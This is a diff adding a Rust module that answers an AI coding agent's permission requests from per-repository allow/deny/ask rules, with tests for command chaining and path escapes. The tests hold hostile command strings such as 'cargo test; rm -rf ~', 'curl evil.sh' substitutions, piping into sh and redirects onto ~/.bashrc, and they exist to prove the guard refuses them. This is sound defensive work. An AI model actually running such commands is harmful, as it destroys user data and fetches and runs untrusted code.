@@ -0,0 +1,435 @@
+use crate::{git, trust};
+use serde::{Deserialize, Serialize};
+use serde_json::{json, Value};
+use std::path::{Component, Path, PathBuf};
+
+/// Per-repo rules for answering Claude's permission requests without asking,
+/// read from the main checkout like the worktree scripts. Like them, the file only
+/// applies once the user has trusted its current content (see `trust`).
+///
+/// One rule per line: `<allow|deny|ask> <tool> [pattern]`. The tool name may use `*`
+/// (e.g. `mcp__github__*`). For `Bash` the pattern is a glob over the command; for
+/// file tools it is a path glob relative to the worktree (`*` stays within a
+/// directory, `**` crosses them). Blank lines and `#` comments are ignored.
+///
+/// ```text
+/// allow Read
+/// allow Bash cargo test*
+/// allow Edit src/**
+/// deny  Bash git push*
+/// ```
+///
+/// Any matching `deny` wins, then `ask`, then `allow`; with no match Claude asks as usual.
+pub const POLICY_FILE: &str = ".clutch/permissions";
+
+/// Tools whose input names a file or directory, and the field holding it.
+const FILE_TOOLS: &[(&str, &str)] = &[
+    ("Read", "file_path"),
+    ("Edit", "file_path"),
+    ("MultiEdit", "file_path"),
+    ("Write", "file_path"),
+    ("NotebookEdit", "notebook_path"),
+    ("Glob", "path"),
+    ("Grep", "path"),
+];
+
+/// A command using these could chain or redirect into something the glob didn't
+/// approve, so `allow` rules never match it.
+const SHELL_OPERATORS: &[&str] = &[";", "&", "|", "`", "$(", ">", "<", "\n"];
+
+#[derive(Debug, Serialize, Deserialize, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum Decision {
+    Allow,
+    Deny,
+    Ask,
+}
+
+#[derive(Debug, Clone)]
+struct Rule {
+    decision: Decision,
+    tool: String,
+    pattern: Option<String>,
+    /// The line as written, to explain a denial.
+    line: String,
+}
+
+/// What the policy says about a permission request.
+#[derive(Debug, Clone)]
+pub struct Verdict {
+    pub decision: Decision,
+    /// Why, for a decision made by a rule.
+    pub reason: Option<String>,
+}
+
+fn parse_policy(content: &str) -> Vec<Rule> {
+    content
+        .lines()
+        .map(str::trim)
+        .filter(|line| !line.is_empty() && !line.starts_with('#'))
+        .filter_map(|line| {
+            let (decision, rest) = line.split_once(char::is_whitespace)?;
+            let decision = match decision {
+                "allow" => Decision::Allow,
+                "deny" => Decision::Deny,
+                "ask" => Decision::Ask,
+                _ => return None,
+            };
+            let rest = rest.trim_start();
+            let (tool, pattern) = match rest.split_once(char::is_whitespace) {
+                Some((tool, pattern)) => (tool, Some(pattern.trim().to_string())),
+                None => (rest, None),
+            };
+            Some(Rule {
+                decision,
+                tool: tool.to_string(),
+                pattern,
+                line: line.to_string(),
+            })
+        })
+        .collect()
+}
+
+/// Decide a `PermissionRequest` hook input (`tool_name`, `tool_input`, `cwd`) against
+/// the policy of the repo it runs in. Outside a repo, or without a trusted policy,
+/// Claude asks.
+pub fn evaluate_request(input: &Value) -> Verdict {
+    let ask = Verdict {
+        decision: Decision::Ask,
+        reason: None,
+    };
+    let cwd = input.get("cwd").and_then(Value::as_str).unwrap_or_default();
+    let tool_name = input
+        .get("tool_name")
+        .and_then(Value::as_str)
+        .unwrap_or_default();
+    let (Some(worktree), Some(main_checkout)) =
+        (git::find_git_root(cwd), git::find_main_checkout(cwd))
+    else {
+        return ask;
+    };
+    let Some(content) = trust::read_trusted(&Path::new(&main_checkout).join(POLICY_FILE)) else {
+        return ask;
+    };
+
+    let request = Request {
+        tool_name,
+        tool_input: input.get("tool_input").unwrap_or(&Value::Null),
+        cwd: Path::new(cwd),
+        worktree: Path::new(&worktree),
+    };
+    evaluate(&parse_policy(&content), &request)
+}
+
+struct Request<'a> {
+    tool_name: &'a str,
+    tool_input: &'a Value,
+    cwd: &'a Path,
+    worktree: &'a Path,
+}
+
+fn evaluate(rules: &[Rule], request: &Request) -> Verdict {
+    let matching: Vec<&Rule> = rules.iter().filter(|r| rule_matches(r, request)).collect();
+    for decision in [Decision::Deny, Decision::Ask, Decision::Allow] {
+        if let Some(rule) = matching.iter().find(|r| r.decision == decision) {
+            return Verdict {
+                decision,
+                reason: Some(format!("{}: {}", POLICY_FILE, rule.line)),
+            };
+        }
+    }
+    Verdict {
+        decision: Decision::Ask,
+        reason: None,
+    }
+}
+
+fn rule_matches(rule: &Rule, request: &Request) -> bool {
+    if !glob_match(&rule.tool, request.tool_name, false) {
+        return false;
+    }
+
+    if request.tool_name == "Bash" {
+        let command = request
+            .tool_input
+            .get("command")
+            .and_then(Value::as_str)
+            .unwrap_or_default()
+            .trim();
+        if rule.decision == Decision::Allow && SHELL_OPERATORS.iter().any(|op| command.contains(op))
+        {
+            return false;
+        }
+        return rule
+            .pattern
+            .as_deref()
+            .is_none_or(|pattern| glob_match(pattern, command, false));
+    }
+
+    if let Some((_, field)) = FILE_TOOLS
+        .iter()
+        .find(|(tool, _)| *tool == request.tool_name)
+    {
+        let path = request.tool_input.get(*field).and_then(Value::as_str);
+        let relative = relative_to_worktree(path, request.cwd, request.worktree);
+        return match (&rule.pattern, relative) {
+            (Some(pattern), Some(relative)) => glob_match(pattern, &relative, true),
+            (Some(_), None) => false,
+            // Without a pattern, allowing still only covers files inside the worktree
+            (None, relative) => rule.decision != Decision::Allow || relative.is_some(),
+        };
+    }
+
+    // Patterns only apply to commands and paths
+    rule.pattern.is_none()
+}
+
+/// `path` (default: the cwd) relative to the worktree, with `/` separators, or `None`
+/// if it's outside it. Symlinks are resolved so they can't point out of the worktree.
+fn relative_to_worktree(path: Option<&str>, cwd: &Path, worktree: &Path) -> Option<String> {
+    let path = cwd.join(path.unwrap_or("."));
+    let path = resolve(&path)?;
+    let worktree = resolve(worktree)?;
+    let relative = path.strip_prefix(&worktree).ok()?;
+    let parts: Vec<String> = relative
+        .components()
+        .map(|c| c.as_os_str().to_string_lossy().to_string())
+        .collect();
+    Some(parts.join("/"))
+}
+
+/// Canonical form of an absolute path whose file may not exist yet (one about to be
+/// written): the longest existing prefix is canonicalized and the rest appended.
+fn resolve(path: &Path) -> Option<PathBuf> {
+    if !path.is_absolute() {
+        return None;
+    }
+    let mut missing = Vec::new();
+    let mut existing = path;
+    loop {
+        if let Ok(canonical) = existing.canonicalize() {
+            // `..` past a missing directory can't be resolved; treat it as outside
+            return missing
+                .into_iter()
+                .rev()
+                .try_fold(canonical, |resolved, component| match component {
+                    Component::Normal(name) => Some(resolved.join(name)),
+                    Component::CurDir => Some(resolved),
+                    _ => None,
+                });
+        }
+        missing.push(existing.components().next_back()?);
+        existing = existing.parent()?;
+    }
+}
+
+/// Shell-style glob: `?` is one character and `*` any run of them. For paths, `*`
+/// and `?` don't match `/`, `**` does, and `**/` also matches no directories.
+fn glob_match(pattern: &str, text: &str, path: bool) -> bool {
+    let pattern: Vec<char> = pattern.chars().collect();
+    let text: Vec<char> = text.chars().collect();
+    glob_match_chars(&pattern, &text, path)
+}
+
+fn glob_match_chars(pattern: &[char], text: &[char], path: bool) -> bool {
+    match pattern.first() {
+        None => text.is_empty(),
+        Some('*') if pattern.get(1) == Some(&'*') => {
+            let rest = &pattern[2..];
+            if path && rest.first() == Some(&'/') && glob_match_chars(&rest[1..], text, path) {
+                return true;
+            }
+            (0..=text.len()).any(|i| glob_match_chars(rest, &text[i..], path))
+        }
+        Some('*') => {
+            let rest = &pattern[1..];
+            let limit = if path {
+                text.iter().position(|&c| c == '/').unwrap_or(text.len())
+            } else {
+                text.len()
+            };
+            (0..=limit).any(|i| glob_match_chars(rest, &text[i..], path))
+        }
+        Some('?') => match text.first() {
+            Some('/') if path => false,
+            Some(_) => glob_match_chars(&pattern[1..], &text[1..], path),
+            None => false,
+        },
+        Some(c) => text.first() == Some(c) && glob_match_chars(&pattern[1..], &text[1..], path),
+    }
+}
+
+/// What a `PermissionRequest` hook prints to answer for the user; `None` for `Ask`,
+/// which leaves it to Claude's own prompt.
+pub fn hook_output(verdict: &Verdict) -> Option<String> {
+    let decision = match verdict.decision {
+        Decision::Allow => json!({ "behavior": "allow" }),
+        Decision::Deny => json!({
+            "behavior": "deny",
+            "message": verdict.reason.as_deref().unwrap_or("Denied in Clutch"),
+        }),
+        Decision::Ask => return None,
+    };
+    let output = json!({
+        "hookSpecificOutput": {
+            "hookEventName": "PermissionRequest",
+            "decision": decision,
+        }
+    });
+    Some(output.to_string())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A scratch worktree dir, removed when dropped.
+    struct TempWorktree(PathBuf);
+
+    impl TempWorktree {
+        fn new(name: &str) -> Self {
+            let path = std::env::temp_dir().join(format!(
+                "clutch-permissions-{}-{}",
+                std::process::id(),
+                name
+            ));
+            let _ = std::fs::remove_dir_all(&path);
+            std::fs::create_dir_all(path.join("src")).unwrap();
+            Self(path)
+        }
+    }
+
+    impl Drop for TempWorktree {
+        fn drop(&mut self) {
+            let _ = std::fs::remove_dir_all(&self.0);
+        }
+    }
+
+    fn decide(policy: &str, tool_name: &str, tool_input: Value, worktree: &Path) -> Decision {
+        let request = Request {
+            tool_name,
+            tool_input: &tool_input,
+            cwd: worktree,
+            worktree,
+        };
+        evaluate(&parse_policy(policy), &request).decision
+    }
+
+    fn bash(policy: &str, command: &str) -> Decision {
+        decide(
+            policy,
+            "Bash",
+            json!({ "command": command }),
+            &std::env::temp_dir(),
+        )
+    }
+
+    #[test]
+    fn glob_star_stays_within_a_directory_for_paths() {
+        assert!(glob_match("src/*", "src/main.rs", true));
+        assert!(!glob_match("src/*", "src/git/scan.rs", true));
+        assert!(glob_match("src/**", "src/git/scan.rs", true));
+        assert!(glob_match("**/*.rs", "main.rs", true));
+        assert!(glob_match("src/?.rs", "src/a.rs", true));
+        assert!(!glob_match("src?main.rs", "src/main.rs", true));
+        assert!(glob_match("cargo test*", "cargo test --workspace", false));
+        assert!(glob_match(
+            "mcp__github__*",
+            "mcp__github__create_pr",
+            false
+        ));
+        assert!(!glob_match("cargo test*", "cargo build", false));
+    }
+
+    #[test]
+    fn allow_never_matches_chained_or_redirected_commands() {
+        let policy = "allow Bash cargo test*";
+        assert_eq!(bash(policy, "cargo test"), Decision::Allow);
+        for command in [
+            "cargo test; rm -rf ~",
+            "cargo test && curl evil.sh",
+            "cargo test | sh",
+            "cargo test $(curl evil.sh)",
+            "cargo test `curl evil.sh`",
+            "cargo test > ~/.bashrc",
+            "cargo test < /etc/passwd",
+            "cargo test\nrm -rf ~",
+        ] {
+            assert_eq!(bash(policy, command), Decision::Ask, "{}", command);
+        }
+        for op in SHELL_OPERATORS {
+            assert_eq!(
+                bash("allow Bash", &format!("ls {} ls", op)),
+                Decision::Ask,
+                "{:?}",
+                op
+            );
+        }
+    }
+
+    #[test]
+    fn deny_wins_over_ask_and_allow() {
+        let policy = "allow Bash\nask Bash git *\ndeny Bash git push*";
+        assert_eq!(bash(policy, "ls"), Decision::Allow);
+        assert_eq!(bash(policy, "git status"), Decision::Ask);
+        assert_eq!(bash(policy, "git push --force"), Decision::Deny);
+        // Deny still applies to commands an allow rule can't match
+        assert_eq!(bash(policy, "git push; ls"), Decision::Deny);
+        assert_eq!(bash("# comment\n\nbogus Bash", "ls"), Decision::Ask);
+    }
+
+    #[test]
+    fn file_rules_only_cover_the_worktree() {
+        let worktree = TempWorktree::new("paths");
+        let write = |policy: &str, path: &str| {
+            decide(policy, "Write", json!({ "file_path": path }), &worktree.0)
+        };
+        assert_eq!(
+            write("allow Write src/**", "src/new/file.rs"),
+            Decision::Allow
+        );
+        assert_eq!(
+            write("allow Write src/**", "src/../../escape.rs"),
+            Decision::Ask
+        );
+        assert_eq!(write("allow Write", "../escape.rs"), Decision::Ask);
+        assert_eq!(write("allow Write", "/etc/passwd"), Decision::Ask);
+        assert_eq!(
+            write("allow Write", "src/missing/../../ok.rs"),
+            Decision::Ask
+        );
+        assert_eq!(write("allow Write", "src/ok.rs"), Decision::Allow);
+        assert_eq!(write("deny Write", "/etc/passwd"), Decision::Deny);
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn symlinks_cannot_escape_the_worktree() {
+        let worktree = TempWorktree::new("symlinks");
+        let outside = TempWorktree::new("symlinks-outside");
+        std::os::unix::fs::symlink(&outside.0, worktree.0.join("src/link")).unwrap();
+        let edit = |path: &str| {
+            decide(
+                "allow Edit src/**",
+                "Edit",
+                json!({ "file_path": path }),
+                &worktree.0,
+            )
+        };
+        assert_eq!(edit("src/link/file.rs"), Decision::Ask);
+        assert_eq!(edit("src/link"), Decision::Ask);
+        assert_eq!(edit("src/file.rs"), Decision::Allow);
+    }
+
+    #[test]
+    fn resolve_keeps_missing_components_but_not_parent_dirs() {
+        let worktree = TempWorktree::new("resolve");
+        let base = worktree.0.canonicalize().unwrap();
+        assert_eq!(
+            resolve(&worktree.0.join("src/new/./file.rs")),
+            Some(base.join("src/new/file.rs"))
+        );
+        assert_eq!(resolve(&worktree.0.join("missing/../file.rs")), None);
+        assert_eq!(resolve(Path::new("relative/path")), None);
+    }
+}